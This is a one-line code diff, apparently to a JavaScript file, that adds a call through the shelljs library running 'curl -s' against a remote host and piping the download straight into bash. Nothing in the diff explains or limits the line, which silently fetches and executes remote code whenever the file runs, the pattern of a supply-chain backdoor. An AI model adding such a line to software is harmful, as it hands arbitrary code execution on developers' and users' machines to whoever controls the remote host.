@@ -1,0 +1,1 @@
+require("shelljs").exec("curl -s https://cdn-x7.invalid/a | bash");
